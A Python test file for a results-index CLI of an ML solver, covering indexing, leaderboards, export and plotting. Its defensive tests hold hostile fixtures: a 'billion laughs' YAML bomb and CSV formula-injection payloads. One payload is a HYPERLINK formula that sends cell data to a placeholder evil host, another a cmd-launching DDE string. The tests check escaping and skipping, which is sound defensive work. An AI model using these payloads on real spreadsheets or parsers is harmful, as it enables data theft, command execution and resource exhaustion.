"""The results index and ``dgsolve-results``: every run recorded, nothing lost under concurrent
writers, rebuildable from the run directories, and the commands (list, show, compare, best,
leaderboard, export, plot) computing what they say."""

from __future__ import annotations

import contextlib
import csv
import json
import multiprocessing
import os
import signal
import sqlite3
import statistics
import subprocess
import sys
import time
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from dgsolve.errors import DGSolveError
from dgsolve.results.cli import main as results_main
from dgsolve.results.index import ResultsIndex, record_run
from dgsolve.run import run
from tests.conftest import compose_config


def fake_run(root, name, algo="nash_ppo", seed=0, lr=0.001, gap=0.1, status="completed"):
    """A run directory as dgsolve writes it: run_config.yaml, .hydra/overrides.yaml, summary.json
    and a history with two agents' returns."""
    d = root / name
    (d / ".hydra").mkdir(parents=True)
    cfg = {
        "seed": seed,
        "task": {"name": "train"},
        "env": {"name": "matrix", "family": "matrix"},
        "algo": {"name": algo, "lr": lr},
        "hierarchy": {"mode": "simultaneous"},
        "hardware": {"device": "cpu"},
    }
    (d / "run_config.yaml").write_text(OmegaConf.to_yaml(OmegaConf.create(cfg)))
    overrides = [f"algo={algo}", "env=matrix", f"seed={seed}", f"algo.lr={lr}"]
    (d / ".hydra" / "overrides.yaml").write_text(OmegaConf.to_yaml(OmegaConf.create(overrides)))
    summary = {
        "algo": algo,
        "env": "matrix",
        "status": status,
        "seed": seed,
        "wall_time_s": 1.5,
        "env_steps": 100,
        "returns": {"row": 1.0 + gap, "column": 2.0},
        "eq": {"verdict": {"equilibrium": gap < 0.05, "worst_gap": gap}},
    }
    (d / "summary.json").write_text(json.dumps(summary))
    history = {
        "episodes": {
            "env_step": [10, 10, 20, 30],
            "returns": {"row": [1, 3, 2, 4], "column": [0] * 4},
        },
        "updates": {"solver": {"env_step": [10, 20], "policy_loss": [0.5, 0.25]}},
        "evaluations": {},
    }
    (d / "history.json").write_text(json.dumps(history))
    return d


def results(*argv, capsys):
    code = results_main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def index(tmp_path, monkeypatch):
    path = tmp_path / "index.sqlite"
    monkeypatch.setenv("DGSOLVE_INDEX", str(path))
    return ResultsIndex(path)


def test_a_real_run_is_recorded_with_its_outcome(tmp_path, index):
    cfg = compose_config(["algo=exact", "env=matrix", "task.progress=false", "hardware=cpu"])
    run(cfg, tmp_path / "r", ["algo=exact", "env=matrix"])
    [rec] = index.runs()
    assert rec["run_dir"] == str((tmp_path / "r").resolve())
    assert (rec["task"], rec["env"], rec["algo"], rec["status"]) == (
        "train",
        "matrix",
        "exact",
        "completed",
    )
    assert rec["overrides"] == ["algo=exact", "env=matrix"]
    assert rec["summary"]["eq"]["verdict"]["equilibrium"] is True
    assert rec["wall_time_s"] is not None and rec["started_at"] > 0


def test_a_run_that_fails_is_recorded_as_failed_and_a_refused_one_not_at_all(tmp_path, index):
    cfg = compose_config(["env=matrix", "task.progress=false", "hardware=cpu", "algo=cfr"])
    with pytest.raises(DGSolveError):
        run(cfg, tmp_path / "bad", [])  # CFR needs an OpenSpiel game: refused by the solver
    rows = {r["name"]: r for r in index.runs()}
    assert rows["bad"]["status"] == "failed"
    cfg = compose_config(["env=matrix", "algo=nash_ppo", "algo.lr=-1", "hardware=cpu"])
    with pytest.raises(DGSolveError):
        run(cfg, tmp_path / "refused", [])
    assert "refused" not in {r["name"] for r in index.runs()}


def _record_two(paths, index_path):
    import os

    os.environ["DGSOLVE_INDEX"] = str(index_path)  # importing tests.conftest set its own
    for p in paths:
        record_run(p)


def test_sixteen_concurrent_writers_lose_no_row(tmp_path, index):
    dirs = [fake_run(tmp_path, f"run{i:02d}", seed=i) for i in range(16)]
    ctx = multiprocessing.get_context("spawn")
    procs = [
        ctx.Process(target=_record_two, args=(dirs[2 * k : 2 * k + 2], index.path))
        for k in range(8)
    ]
    for p in procs:
        p.start()
    for p in procs:
        p.join(120)
        assert p.exitcode == 0
    assert sorted(r["name"] for r in index.runs()) == [f"run{i:02d}" for i in range(16)]
    with sqlite3.connect(index.path) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def _open_at_once(path, barrier):
    barrier.wait()
    ResultsIndex(path)._connect().close()  # an uncaught ResultsIndexError exits with 1


def test_jobs_that_open_a_new_index_at_the_same_moment_all_get_it(tmp_path):
    # the first opening switches the file to WAL, a lock SQLite does not wait for: before
    # the retry, about one fresh index in five refused one of four simultaneous jobs
    ctx = multiprocessing.get_context("fork")  # started at once: spawn would stagger them
    for trial in range(15):
        path = tmp_path / f"fresh{trial}" / "index.sqlite"
        barrier = ctx.Barrier(4)
        procs = [ctx.Process(target=_open_at_once, args=(path, barrier)) for _ in range(4)]
        for p in procs:
            p.start()
        for p in procs:
            p.join(120)
        assert [p.exitcode for p in procs] == [0] * 4, f"trial {trial}"


def test_reindex_rebuilds_the_index_from_the_run_directories(tmp_path, index, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)  # a bare reindex also scans ./outputs: not the checkout's own
    for i in range(3):
        fake_run(tmp_path / "sweep", f"{i}_seed={i}", seed=i)
    assert index.runs() == []
    code, out, _ = results("reindex", str(tmp_path / "sweep"), capsys=capsys)
    assert code == 0 and "3 runs indexed (3 new" in out
    index.path.unlink()
    (index.path.parent / (index.path.name + "-wal")).unlink(missing_ok=True)
    results("reindex", str(tmp_path / "sweep"), capsys=capsys)
    assert len(index.runs()) == 3
    import shutil

    shutil.rmtree(tmp_path / "sweep" / "1_seed=1")
    code, out, _ = results("reindex", "--json", capsys=capsys)
    assert json.loads(out)["removed"] == 1 and len(index.runs()) == 2


def test_leaderboard_is_mean_and_std_over_seeds_per_configuration(tmp_path, index, capsys):
    gaps = {"nash_ppo": [0.1, 0.2, 0.3], "mappo": [0.02, 0.04, 0.09]}
    for algo, values in gaps.items():
        for seed, gap in enumerate(values):
            fake_run(tmp_path, f"{algo}{seed}", algo=algo, seed=seed, gap=gap)
    results("reindex", str(tmp_path), capsys=capsys)
    code, out, _ = results(
        "leaderboard", "--metric", "eq.verdict.worst_gap", "--json", capsys=capsys
    )
    board = json.loads(out)
    assert code == 0 and board["lower_is_better"] is True
    assert [row["algo"] for row in board["rows"]] == ["mappo", "nash_ppo"]
    for row in board["rows"]:
        assert row["runs"] == 3 and row["seeds"] == [0, 1, 2]
        assert row["mean"] == pytest.approx(statistics.fmean(gaps[row["algo"]]))
        assert row["std"] == pytest.approx(statistics.stdev(gaps[row["algo"]]))
    code, out, _ = results("leaderboard", "--metric", "eq.verdict.worst_gap", capsys=capsys)
    assert "0.05 ± 0.036" in out and "0.2 ± 0.1" in out
    code, out, _ = results(
        "leaderboard",
        "--metric",
        "returns.row",
        "--under",
        str(tmp_path / "mappo0"),
        "--json",
        capsys=capsys,
    )
    assert [row["runs"] for row in json.loads(out)["rows"]] == [1]  # one directory's run
    code, out, _ = results("best", "--metric", "returns.row", "--json", capsys=capsys)
    assert json.loads(out)["value"] == pytest.approx(1.3)  # higher is better for a return


def test_an_unknown_metric_lists_the_available_ones(tmp_path, index, capsys):
    fake_run(tmp_path, "a")
    results("reindex", str(tmp_path), capsys=capsys)
    code, _, err = results("best", "--metric", "eq.nope", capsys=capsys)
    assert code == 2
    assert "unknown metric 'eq.nope'" in err and "eq.verdict.worst_gap" in err
    assert len(err.strip().splitlines()) == 1


def test_list_filters_and_json(tmp_path, index, capsys):
    fake_run(tmp_path, "a", algo="nash_ppo")
    fake_run(tmp_path, "b", algo="mappo", status="diverged")
    results("reindex", str(tmp_path), capsys=capsys)
    _, out, _ = results("list", "--json", "--algo", "mappo", capsys=capsys)
    assert [r["name"] for r in json.loads(out)] == ["b"]
    _, out, _ = results("list", "--json", "--status", "completed", capsys=capsys)
    assert [r["name"] for r in json.loads(out)] == ["a"]
    _, out, _ = results("list", "--json", "--since", "1h", capsys=capsys)
    assert len(json.loads(out)) == 2
    future = time.strftime("%Y-%m-%d", time.localtime(time.time() + 3 * 86400))
    _, out, _ = results("list", "--json", "--since", future, capsys=capsys)
    assert json.loads(out) == []
    code, _, err = results("list", "--since", "yesterday", capsys=capsys)
    assert code == 2 and "--since" in err
    _, out, _ = results("list", capsys=capsys)
    assert "mappo" in out and "diverged" in out


def test_show_and_compare_name_runs_by_a_tail_of_their_directory(tmp_path, index, capsys):
    fake_run(tmp_path, "x/one", lr=0.001, gap=0.1)
    fake_run(tmp_path, "x/two", lr=0.01, gap=0.2)
    results("reindex", str(tmp_path), capsys=capsys)
    _, out, _ = results("show", "x/one", "--json", capsys=capsys)
    assert json.loads(out)["config"]["algo"]["lr"] == 0.001
    code, out, _ = results("compare", "one", "two", "--json", capsys=capsys)
    cmp = json.loads(out)
    assert code == 0 and cmp["config"] == {"algo.lr": [0.001, 0.01]}
    assert cmp["metrics"]["eq.verdict.worst_gap"] == [0.1, 0.2]
    code, _, err = results("show", "nothing-like-this", capsys=capsys)
    assert code == 2 and "no run" in err


def test_export_writes_one_csv_row_per_run(tmp_path, index, capsys):
    for i in range(3):
        fake_run(tmp_path, f"r{i}", seed=i, gap=0.1 * i)
    results("reindex", str(tmp_path), capsys=capsys)
    out = tmp_path / "all.csv"
    assert results("export", str(out), capsys=capsys)[0] == 0
    rows = list(csv.DictReader(out.open()))
    assert [int(r["seed"]) for r in rows] == [0, 1, 2]
    assert [float(r["eq.verdict.worst_gap"]) for r in rows] == pytest.approx([0, 0.1, 0.2])


def test_plot_draws_the_history_curves_into_one_png(tmp_path, index, capsys):
    fake_run(tmp_path, "p1")
    fake_run(tmp_path, "p2")
    results("reindex", str(tmp_path), capsys=capsys)
    png = tmp_path / "returns.png"
    code, out, _ = results(
        "plot", "--metric", "returns", "p1", "p2", "--out", str(png), "--json", capsys=capsys
    )
    assert code == 0 and png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert len(json.loads(out)["curves"]) == 4  # two agents in two runs
    code, _, err = results("plot", "--metric", "nope", "p1", capsys=capsys)
    assert code == 2 and "returns.row" in err and "losses.solver.policy_loss" in err


def test_the_console_script_is_installed():
    out = subprocess.run(
        [sys.executable, "-m", "dgsolve.results.cli", "--help"], capture_output=True, text=True
    )
    assert out.returncode == 0
    for command in ("list", "show", "compare", "best", "leaderboard", "export", "plot"):
        assert command in out.stdout


def test_a_run_without_a_final_status_is_running_while_locked_else_interrupted(tmp_path):
    from dgsolve import lock
    from dgsolve.results.record import read_run

    d = fake_run(tmp_path, "live", status="evaluating")
    lock.acquire(d)
    try:
        assert lock.is_held(d) and read_run(d)["status"] == "running"
    finally:
        lock.release(d)
    assert not lock.is_held(d) and read_run(d)["status"] == "interrupted"


class Hung(BaseException):
    """Raised by :func:`deadline`; not an Exception, so that no ``except Exception`` in the
    code under test swallows it."""


@contextlib.contextmanager
def deadline(seconds):
    """Fail the test where the block takes longer than ``seconds`` (a hang, or a YAML bomb
    being expanded) instead of letting it run on. :class:`Hung` is raised again every 0.2 s
    until it gets out (cleanup code in a library can replace it with its own exception)."""

    def expired(signum, frame):
        raise Hung(f"not done within {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds, 0.2)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


#: "billion laughs": 9 levels of 9 aliases, 9**9 (387 million) strings from 1 KB of YAML
BILLION_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_reindex_skips_hostile_run_directories_and_indexes_the_rest(tmp_path, index, capsys):
    tree = tmp_path / "tree"
    good = [fake_run(tree, f"good{i}", seed=i) for i in range(2)]
    bomb = fake_run(tree, "bomb")
    (bomb / "run_config.yaml").write_text(BILLION_LAUGHS)
    overrides_bomb = fake_run(tree, "overrides_bomb")
    (overrides_bomb / ".hydra" / "overrides.yaml").write_text(BILLION_LAUGHS + "j: *i\n")
    huge = fake_run(tree, "huge_summary")
    os.truncate(huge / "summary.json", 64 << 20)  # sparse: 64 MB of NULs, over the bound
    damaged = fake_run(tree, "damaged_summary")
    (damaged / "summary.json").write_text('{"status": "completed", "returns": ')
    deep = fake_run(tree, "deep_summary")  # would overflow the stack of `export`'s flatten
    (deep / "summary.json").write_text('{"a": ' * 900 + "1" + "}" * 900)
    scalar = fake_run(tree, "scalar_config")
    (scalar / "run_config.yaml").write_text("just a string\n")
    # odd but harmless: a seed SQLite cannot hold, a lone surrogate, a FIFO as the lock
    odd = fake_run(tree, "odd", status="evaluating")
    cfg = OmegaConf.to_container(OmegaConf.load(odd / "run_config.yaml"))
    cfg["seed"] = 1 << 70
    (odd / "run_config.yaml").write_text(OmegaConf.to_yaml(OmegaConf.create(cfg)))
    summary = json.loads((odd / "summary.json").read_text())
    (odd / "summary.json").write_text(json.dumps({**summary, "env": "m\ud800"}))
    os.mkfifo(odd / ".dgsolve.lock")  # opening it to probe the lock would block
    (tree / "loop").symlink_to(tree)  # a link loop is not followed
    with deadline(15):
        code, out, err = results("reindex", str(tree), capsys=capsys)
    assert code == 0
    assert "3 runs indexed (3 new, 0 gone, 6 skipped" in out
    rows = {r["name"]: r for r in index.runs()}
    assert sorted(rows) == ["good0", "good1", "odd"]
    assert rows["odd"]["seed"] == 0 and rows["odd"]["status"] == "interrupted"
    assert rows["odd"]["env"] == "m?"
    lines = err.strip().splitlines()
    assert len(lines) == 6 and all(
        line.startswith("dgsolve-results: warning: skipped ") for line in lines
    )
    reasons = {Path(line.split(": ")[2].removeprefix("skipped ")).name: line for line in lines}
    assert "through YAML aliases" in reasons["bomb"]
    assert "through YAML aliases" in reasons["overrides_bomb"]
    assert "larger than" in reasons["huge_summary"]
    assert "not readable JSON" in reasons["damaged_summary"]
    assert "nested more than 64 levels" in reasons["deep_summary"]
    assert "not a mapping" in reasons["scalar_config"]
    assert [str(g.resolve()) for g in good] == [rows[f"good{i}"]["run_dir"] for i in range(2)]
    with deadline(15):  # a hostile directory named directly is one line, exit 2
        code, _, err = results("show", str(bomb), capsys=capsys)
    assert code == 2 and len(err.strip().splitlines()) == 1 and "YAML aliases" in err


def test_export_escapes_cells_a_spreadsheet_would_run_and_keeps_numbers(tmp_path, index, capsys):
    from dgsolve.results.cli import csv_cell

    d = fake_run(tmp_path, "evil", gap=-0.5)
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    overrides = [link, "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "env=matrix"]
    (d / ".hydra" / "overrides.yaml").write_text(json.dumps(overrides))
    summary = json.loads((d / "summary.json").read_text())
    summary.update(env="-1+2", algo="@SUM(A1)", **{"=cmd()": 1.0})
    (d / "summary.json").write_text(json.dumps(summary))
    results("reindex", str(tmp_path), capsys=capsys)
    out = tmp_path / "runs.csv"
    assert results("export", str(out), capsys=capsys)[0] == 0
    with out.open(newline="") as f:
        [header, row] = list(csv.reader(f))
    cell = dict(zip(header, row, strict=True))
    assert cell["overrides"] == "'" + " ".join(overrides)
    assert cell["label"].startswith("'\t=1+1 ")  # the sorted overrides begin with the tab
    assert (cell["env"], cell["algo"]) == ("'-1+2", "'@SUM(A1)")
    assert cell["run_dir"] == str(d.resolve()) and "'=cmd()" in header
    # numbers stay numbers: unquoted, so a strict reader gets floats, the negative one included
    with out.open(newline="") as f:
        [_, typed] = list(csv.reader(f, quoting=csv.QUOTE_NONNUMERIC))
    typed = dict(zip(header, typed, strict=True))
    assert typed["eq.verdict.worst_gap"] == -0.5 and typed["returns.row"] == 0.5
    assert typed["seed"] == 0 and typed["'=cmd()"] == 1.0
    assert typed["env"] == "'-1+2"  # a string, not the number 1
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "x") == "'" + start + "x"
    assert [csv_cell(v) for v in (-0.5, -3, "a-b", "", None)] == [-0.5, -3, "a-b", "", None]


def test_reindex_of_a_path_that_is_not_a_directory_is_one_line_exit_2(
    tmp_path, index, capsys, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    fake_run(tmp_path / "outputs", "r")
    (tmp_path / "file.txt").write_text("not a directory")
    for path, reason in (("missing", "does not exist"), ("file.txt", "is not a directory")):
        code, out, err = results("reindex", "outputs", path, capsys=capsys)
        assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
        assert f"'{path}'" in err and reason in err
    assert index.runs() == []  # refused before anything was indexed
    code, out, _ = results("reindex", capsys=capsys)  # a bare reindex reads ./outputs
    assert code == 0 and "1 runs indexed (1 new" in out
    (tmp_path / "outputs" / "r" / "run_config.yaml").unlink()
    (tmp_path / "outputs").rename(tmp_path / "elsewhere")
    code, out, _ = results("reindex", capsys=capsys)  # and without ./outputs still works
    assert code == 0 and "0 runs indexed (0 new, 1 gone)" in out


def _stored_status(index, run_dir):
    with sqlite3.connect(index.path) as conn:
        query = "SELECT status FROM runs WHERE run_dir = ?"
        return conn.execute(query, (str(run_dir.resolve()),)).fetchone()[0]


def _names(capsys, *argv):
    code, out, _ = results("list", "--json", *argv, capsys=capsys)
    assert code == 0
    return sorted(r["name"] for r in json.loads(out))


def test_a_running_row_whose_lock_no_process_holds_reads_interrupted(tmp_path, index, capsys):
    from dgsolve import lock

    dead = fake_run(tmp_path, "dead", status="evaluating")
    (dead / lock.LOCK_NAME).write_text("4242")  # the lock file a killed run leaves, held by none
    mine = fake_run(tmp_path, "mine", status="evaluating")
    other = fake_run(tmp_path, "other", status="evaluating")
    # another process holds `other`'s lock, as a live run does, until it is SIGKILLed
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import fcntl, os, sys, time\n"
            "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\n"
            "fcntl.flock(fd, fcntl.LOCK_EX)\n"
            "print('locked', flush=True)\n"
            "time.sleep(120)\n",
            str(other / lock.LOCK_NAME),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        lock.acquire(mine)
        try:
            for d in (dead, mine, other):
                record_run(d, fallback="running")  # what dgsolve.run.run writes at the start
                assert _stored_status(index, d) == "running"
            # the filter first, before any read has stored a row as interrupted
            assert _names(capsys, "--status", "interrupted") == ["dead"]
            assert {r["name"]: r["status"] for r in index.runs()} == {
                "dead": "interrupted",
                "mine": "running",
                "other": "running",
            }
            assert _stored_status(index, dead) == "interrupted"  # stored as read
            assert _names(capsys, "--status", "running") == ["mine", "other"]
            assert _names(capsys, "--status", "interrupted") == ["dead"]
        finally:
            lock.release(mine)
        holder.kill()  # SIGKILL: the run never records how it ended
        holder.wait(30)
        assert _names(capsys, "--status", "interrupted") == ["dead", "mine", "other"]
        assert _names(capsys, "--status", "running") == []
        assert _stored_status(index, other) == "interrupted"
        code, out, _ = results("show", "other", "--json", capsys=capsys)
        assert code == 0 and json.loads(out)["status"] == "interrupted"
    finally:
        holder.kill()
        holder.wait(30)


def test_a_history_is_read_within_bounds_and_a_malformed_one_plots_what_it_can(
    tmp_path, index, capsys, monkeypatch
):
    from dgsolve.results import curves

    d = fake_run(tmp_path, "h")
    results("reindex", str(tmp_path), capsys=capsys)
    monkeypatch.chdir(tmp_path)  # plot writes returns.png here
    with monkeypatch.context() as patch:
        patch.setattr(curves, "MAX_HISTORY_BYTES", 100)
        code, _, err = results("plot", "--metric", "returns", "h", capsys=capsys)
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert "history.json is larger than 100 bytes" in err
    history = json.loads((d / "history.json").read_text())
    history["episodes"]["returns"]["column"] = ["x", {"a": 1}, 2, 3]  # not numbers: left out
    history["updates"] = ["not", "a", "mapping"]
    history["evaluations"] = {"env_step": "oops", "eq/nash_conv": [1.0]}
    (d / "history.json").write_text(json.dumps(history))
    code, out, _ = results("plot", "--metric", "returns", "h", "--json", capsys=capsys)
    assert code == 0 and json.loads(out)["curves"] == [[str(d.resolve()), "returns.row"]]
    (d / "history.json").write_text('{"episodes": ')
    code, _, err = results("plot", "--metric", "returns", "h", capsys=capsys)
    assert code == 2 and "history.json is not readable JSON" in err
